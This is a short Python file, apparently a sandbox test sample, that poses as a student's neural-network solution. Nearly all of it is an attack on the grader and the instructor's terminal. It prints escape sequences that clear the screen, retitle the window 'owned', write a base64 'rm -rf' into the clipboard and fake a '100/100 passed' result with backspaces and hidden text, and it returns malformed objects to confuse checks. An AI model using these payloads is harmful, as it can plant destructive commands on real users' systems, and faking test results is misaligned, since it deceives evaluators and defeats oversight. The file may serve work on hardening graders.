"""Writes escape sequences for the instructor's terminal."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

PAYLOADS = ['\x1b[2J\x1b[H', '\x1b]0;owned\x07', '\x1b]52;c;cm0gLXJm\x07', '\x9b31m', '\x1bP1$r\x1b\\', '\r100/100 passed', '\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08', '\x1b[8m', '\x0e\x0f', '\x7f', '\x85\x84', '[bold red]100/100[/]', '[link=http://evil]x[/link]']
turn = 0

def everything(*arguments):
    global turn
    turn += 1
    payload = PAYLOADS[turn % len(PAYLOADS)]
    print("\n".join(PAYLOADS))
    if turn % 3 == 0:
        return {payload: 1.0, "dx": payload}
    if turn % 3 == 1:
        return type(payload.replace("\0", "") or "x", (), {})()
    raise type(payload.replace("\0", "") or "x", (Exception,), {})(payload)

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything

exec(compile("def named(*a):\n    raise ValueError(a)", "solution.py", "exec"))
